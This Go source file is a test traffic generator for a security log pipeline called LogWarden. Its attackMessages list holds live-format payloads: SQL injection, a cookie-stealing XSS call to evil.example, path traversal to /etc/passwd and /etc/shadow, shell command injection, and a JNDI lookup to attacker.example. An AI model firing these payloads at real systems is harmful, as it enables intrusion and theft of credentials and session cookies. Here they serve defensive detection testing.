// Package main provides a test traffic generator for LogWarden.
//
// It sends synthetic security events to a running ingest server and
// prints the classification verdict for each one, which makes it handy
// for exercising the pipeline end to end without real log sources.
package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand"
	"net/http"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	"logwarden/internal/schema"
)

var version = "dev"

// sampleSources are plausible origin services for generated events.
var sampleSources = []string{
	"auth-service", "api-gateway", "web-frontend", "payment-service",
	"admin-portal", "user-service", "search-service",
}

var sampleUsers = []string{
	"alice", "bob", "carol", "dave", "admin", "deploy", "svc-backup",
}

var normalAgents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Safari/605.1.15",
	"curl/8.5.0",
	"Go-http-client/2.0",
}

var scannerAgents = []string{
	"sqlmap/1.7.2#stable (https://sqlmap.org)",
	"Nikto/2.5.0",
	"masscan/1.3",
	"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
}

// normalMessages are benign event templates.
var normalMessages = []struct {
	eventType string
	message   string
	severity  string
}{
	{"authentication", "User login successful", "info"},
	{"authentication", "User logged out", "info"},
	{"api_request", "GET /api/v2/orders?page=1", "info"},
	{"api_request", "POST /api/v2/payments completed in 84ms", "info"},
	{"api_request", "GET /static/app.css", "info"},
	{"file_access", "Report export downloaded", "low"},
	{"configuration", "Feature flag dark_mode toggled", "low"},
	{"authentication", "Password changed by user", "medium"},
}

// attackMessages carry payloads the classifier should flag.
var attackMessages = []struct {
	eventType string
	message   string
	severity  string
}{
	{"api_request", "GET /products?id=1' UNION SELECT username,password FROM users--", "high"},
	{"api_request", "GET /search?q=1 OR 1=1", "medium"},
	{"api_request", "POST /login username=admin'; DROP TABLE users;--", "critical"},
	{"api_request", "GET /profile?name=<script>document.location='http://evil.example/c?'+document.cookie</script>", "high"},
	{"api_request", "GET /render?template=javascript:alert(1)", "medium"},
	{"file_access", "GET /download?file=../../../../etc/passwd", "high"},
	{"file_access", "GET /static/%2e%2e/%2e%2e/etc/shadow", "high"},
	{"api_request", "GET /ping?host=127.0.0.1; cat /etc/passwd", "critical"},
	{"api_request", "POST /api/debug cmd=`id` && whoami", "critical"},
	{"api_request", "GET /login X-Api-Version: ${jndi:ldap://attacker.example/a}", "critical"},
}

type sender struct {
	serverURL string
	client    *http.Client
}

// analysis mirrors the classification block of the ingest response.
type analysis struct {
	IsAnomaly       bool     `json:"is_anomaly"`
	AnomalyScore    float64  `json:"anomaly_score"`
	DetectedAttacks []string `json:"detected_attacks"`
}

type eventResponse struct {
	Success  bool     `json:"success"`
	Message  string   `json:"message"`
	EventID  string   `json:"event_id"`
	Analysis analysis `json:"analysis"`
	Error    string   `json:"error"`
}

type batchResponse struct {
	Success  bool     `json:"success"`
	Accepted int      `json:"accepted"`
	Rejected int      `json:"rejected"`
	Errors   []string `json:"errors"`
	Error    string   `json:"error"`
}

func main() {
	var (
		serverURL    string
		mode         string
		count        int
		rate         float64
		anomalyRatio float64
		message      string
		showVersion  bool
	)

	flag.StringVar(&serverURL, "server", "http://localhost:8080", "LogWarden server URL")
	flag.StringVar(&serverURL, "s", "http://localhost:8080", "LogWarden server URL (shorthand)")
	flag.StringVar(&mode, "mode", "single", "Traffic mode: single, stream, burst, mixed")
	flag.IntVar(&count, "count", 0, "Number of events to send (0 = mode default)")
	flag.Float64Var(&rate, "rate", 5, "Events per second for stream mode")
	flag.Float64Var(&anomalyRatio, "anomaly-ratio", 0.3, "Fraction of suspicious events in stream mode")
	flag.StringVar(&message, "message", "", "Custom message for single mode")
	flag.BoolVar(&showVersion, "version", false, "Show version and exit")
	flag.Parse()

	if showVersion {
		fmt.Printf("logwarden-send %s\n", version)
		return
	}

	s := &sender{
		serverURL: strings.TrimRight(serverURL, "/"),
		client:    &http.Client{Timeout: 10 * time.Second},
	}

	var err error
	switch mode {
	case "single":
		err = s.runSingle(message)
	case "stream":
		err = s.runStream(count, rate, anomalyRatio)
	case "burst":
		err = s.runBurst(count)
	case "mixed":
		err = s.runMixed(count)
	default:
		fmt.Fprintf(os.Stderr, "Unknown mode: %s (expected single, stream, burst, or mixed)\n", mode)
		os.Exit(1)
	}

	if err != nil {
		fmt.Fprintf(os.Stderr, "Error: %v\n", err)
		os.Exit(1)
	}
}

// runSingle sends one event. A custom message goes out as-is; otherwise
// a random benign event is used.
func (s *sender) runSingle(message string) error {
	var input schema.EventInput
	if message != "" {
		input = buildEvent("api_request", message, "medium", randomIP(), normalAgents[rand.Intn(len(normalAgents))])
	} else {
		input = randomNormalEvent()
	}
	return s.sendAndPrint(input)
}

// runStream sends a continuous mix of normal and suspicious traffic
// until count is reached or the process is interrupted.
func (s *sender) runStream(count int, rate, anomalyRatio float64) error {
	if rate <= 0 {
		rate = 5
	}
	interval := time.Duration(float64(time.Second) / rate)

	stop := make(chan os.Signal, 1)
	signal.Notify(stop, syscall.SIGINT, syscall.SIGTERM)

	fmt.Printf("Streaming to %s at %.1f events/sec (%.0f%% suspicious), Ctrl+C to stop\n\n",
		s.serverURL, rate, anomalyRatio*100)

	ticker := time.NewTicker(interval)
	defer ticker.Stop()

	sent := 0
	for {
		select {
		case <-stop:
			fmt.Printf("\nStopped after %d events.\n", sent)
			return nil
		case <-ticker.C:
			var input schema.EventInput
			if rand.Float64() < anomalyRatio {
				input = randomAttackEvent()
			} else {
				input = randomNormalEvent()
			}
			if err := s.sendAndPrint(input); err != nil {
				return err
			}
			sent++
			if count > 0 && sent >= count {
				fmt.Printf("\nDone, sent %d events.\n", sent)
				return nil
			}
		}
	}
}

// runBurst simulates a brute-force attempt: repeated failed logins for
// one account from one address, sent as a single batch.
func (s *sender) runBurst(count int) error {
	if count <= 0 {
		count = 30
	}

	attackerIP := randomIP()
	target := sampleUsers[rand.Intn(len(sampleUsers))]

	events := make([]schema.EventInput, 0, count)
	for i := 0; i < count; i++ {
		input := buildEvent(
			"authentication",
			fmt.Sprintf("Failed login attempt for user %s (invalid password)", target),
			"medium",
			attackerIP,
			normalAgents[rand.Intn(len(normalAgents))],
		)
		input.Username = target
		events = append(events, input)
	}

	fmt.Printf("Sending burst of %d failed logins for %q from %s\n", count, target, attackerIP)
	return s.sendBatch(events)
}

// runMixed sends one event from every attack category plus background
// noise, a quick smoke test of the whole signature table.
func (s *sender) runMixed(count int) error {
	if count <= 0 {
		count = len(attackMessages) + 5
	}

	sent := 0
	for _, tmpl := range attackMessages {
		if sent >= count {
			break
		}
		input := buildEvent(tmpl.eventType, tmpl.message, tmpl.severity, randomIP(), scannerAgents[rand.Intn(len(scannerAgents))])
		if err := s.sendAndPrint(input); err != nil {
			return err
		}
		sent++
	}
	for sent < count {
		if err := s.sendAndPrint(randomNormalEvent()); err != nil {
			return err
		}
		sent++
	}

	fmt.Printf("\nDone, sent %d events.\n", sent)
	return nil
}

func (s *sender) sendAndPrint(input schema.EventInput) error {
	body, err := json.Marshal(input)
	if err != nil {
		return err
	}

	resp, err := s.client.Post(s.serverURL+"/api/v1/events", "application/json", bytes.NewReader(body))
	if err != nil {
		return fmt.Errorf("send event: %w", err)
	}
	defer resp.Body.Close()

	var result eventResponse
	if err := json.NewDecoder(resp.Body).Decode(&result); err != nil {
		return fmt.Errorf("decode response (HTTP %d): %w", resp.StatusCode, err)
	}

	if !result.Success {
		reason := result.Error
		if reason == "" {
			reason = result.Message
		}
		fmt.Printf("REJECTED  %s\n", reason)
		return nil
	}

	verdict := "normal "
	if result.Analysis.IsAnomaly {
		verdict = "ANOMALY"
	}
	line := fmt.Sprintf("%s  score=%.2f", verdict, result.Analysis.AnomalyScore)
	if len(result.Analysis.DetectedAttacks) > 0 {
		line += fmt.Sprintf("  [%s]", strings.Join(result.Analysis.DetectedAttacks, ", "))
	}
	fmt.Printf("%s  %s\n", line, *input.Message)
	return nil
}

func (s *sender) sendBatch(events []schema.EventInput) error {
	body, err := json.Marshal(map[string]any{"events": events})
	if err != nil {
		return err
	}

	resp, err := s.client.Post(s.serverURL+"/api/v1/events/batch", "application/json", bytes.NewReader(body))
	if err != nil {
		return fmt.Errorf("send batch: %w", err)
	}
	defer resp.Body.Close()

	var result batchResponse
	if err := json.NewDecoder(resp.Body).Decode(&result); err != nil {
		return fmt.Errorf("decode response (HTTP %d): %w", resp.StatusCode, err)
	}

	if result.Error != "" {
		return fmt.Errorf("batch rejected: %s", result.Error)
	}

	fmt.Printf("Batch result: %d accepted, %d rejected\n", result.Accepted, result.Rejected)
	for _, e := range result.Errors {
		fmt.Printf("  - %s\n", e)
	}
	return nil
}

func buildEvent(eventType, message, severity, sourceIP, userAgent string) schema.EventInput {
	source := sampleSources[rand.Intn(len(sampleSources))]
	return schema.EventInput{
		Source:    &source,
		Severity:  &severity,
		EventType: &eventType,
		Message:   &message,
		Timestamp: time.Now().UTC(),
		SourceIP:  sourceIP,
		UserAgent: userAgent,
		Username:  sampleUsers[rand.Intn(len(sampleUsers))],
	}
}

func randomNormalEvent() schema.EventInput {
	tmpl := normalMessages[rand.Intn(len(normalMessages))]
	return buildEvent(tmpl.eventType, tmpl.message, tmpl.severity, randomIP(), normalAgents[rand.Intn(len(normalAgents))])
}

func randomAttackEvent() schema.EventInput {
	tmpl := attackMessages[rand.Intn(len(attackMessages))]
	return buildEvent(tmpl.eventType, tmpl.message, tmpl.severity, randomIP(), scannerAgents[rand.Intn(len(scannerAgents))])
}

// randomIP returns an address from the documentation and benchmark
// ranges, so generated traffic is recognizable in stored events.
func randomIP() string {
	blocks := []string{"203.0.113", "198.51.100", "192.0.2"}
	return fmt.Sprintf("%s.%d", blocks[rand.Intn(len(blocks))], rand.Intn(254)+1)
}
